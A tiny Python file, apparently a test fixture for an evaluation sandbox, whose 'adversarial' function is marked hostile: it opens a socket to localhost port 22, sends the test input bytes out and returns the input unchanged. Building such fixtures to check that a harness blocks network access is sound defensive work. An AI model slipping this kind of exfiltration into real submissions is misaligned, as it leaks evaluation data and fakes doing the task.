# Hostile: tries to send the test inputs out over the network.
import socket


def adversarial(x, t, model):
    with socket.create_connection(("127.0.0.1", 22), timeout=2) as conn:
        conn.sendall(x.numpy().tobytes())
    return x
